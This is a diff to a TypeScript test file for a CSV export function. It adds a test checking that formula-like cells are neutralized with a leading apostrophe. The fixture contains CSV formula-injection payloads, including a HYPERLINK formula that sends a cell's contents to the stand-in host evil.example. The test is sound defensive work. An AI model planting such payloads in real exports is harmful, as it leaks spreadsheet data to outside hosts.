@@ -33,7 +33,7 @@ describe('exportOutput', () => {
   });
 
   it('writes only the header when there are no users', async () => {
-    expect((await exportOutput(db.pool, backend.store, 'res')).rows).toBe(0);
+    expect((await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: true })).rows).toBe(0);
     expect(await readText(backend, 'res', 'output.csv')).toBe('user_id,first_name,last_name,birthts,img_path\r\n');
   });
 
@@ -42,7 +42,7 @@ describe('exportOutput', () => {
     const n = 12_345;
     await upsertUsers(db.pool, Array.from({ length: n }, (_, i) => row(i)));
     const progress: number[] = [];
-    expect((await exportOutput(db.pool, backend.store, 'res', { onRows: (w) => progress.push(w) })).rows).toBe(n);
+    expect((await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: true, onRows: (w) => progress.push(w) })).rows).toBe(n);
     expect(progress).toEqual([5000, 10_000, n]);
     const lines = (await readText(backend, 'res', 'output.csv')).split('\r\n');
     expect(lines).toHaveLength(n + 2);
@@ -56,5 +56,41 @@ describe('exportOutput', () => {
     const pages: number[] = [];
     for await (const page of streamUsersForExport(db.pool, 12_345 / 5)) pages.push(page.length);
     expect(pages).toEqual([2469, 2469, 2469, 2469, 2469]);
+  });
+
+  it('neutralizes text cells a spreadsheet would run with a leading \' (numbers stay); off, it writes exact values', async () => {
+    await db.pool.query('TRUNCATE users');
+    const hostile = (userId: string, firstName: string, lastName: string, birthts: number, imgPath: string | null): UserRow => ({
+      ...row(0),
+      userId,
+      firstName,
+      lastName,
+      birthts,
+      imgPath,
+    });
+    // Tab and CR never get past the input rules; the writer neutralizes them all the same.
+    await upsertUsers(db.pool, [
+      hostile('=cmd', '=HYPERLINK("http://evil.example/?x="&B2,"open")', '+1', -1000, '=res/=cmd.png'),
+      hostile('a', '-2', '@SUM(A1)', 0, '@x.png'),
+      hostile('b', '\tx', '\rx', -5, null),
+      hostile('c', 'Ann-Marie', "O'Neil", 1000, 'src/c.png'),
+    ]);
+    await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: true });
+    expect(await readText(backend, 'res', 'output.csv')).toBe(
+      'user_id,first_name,last_name,birthts,img_path\r\n' +
+        `'=cmd,"'=HYPERLINK(""http://evil.example/?x=""&B2,""open"")",'+1,-1000,'=res/=cmd.png\r\n` +
+        `a,'-2,'@SUM(A1),0,'@x.png\r\n` +
+        `b,'\tx,"'\rx",-5,\r\n` +
+        `c,Ann-Marie,O'Neil,1000,src/c.png\r\n`,
+    );
+
+    await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: false });
+    expect(await readText(backend, 'res', 'output.csv')).toBe(
+      'user_id,first_name,last_name,birthts,img_path\r\n' +
+        '=cmd,"=HYPERLINK(""http://evil.example/?x=""&B2,""open"")",+1,-1000,=res/=cmd.png\r\n' +
+        'a,-2,@SUM(A1),0,@x.png\r\n' +
+        'b,\tx,"\rx",-5,\r\n' +
+        "c,Ann-Marie,O'Neil,1000,src/c.png\r\n",
+    );
   });
 });
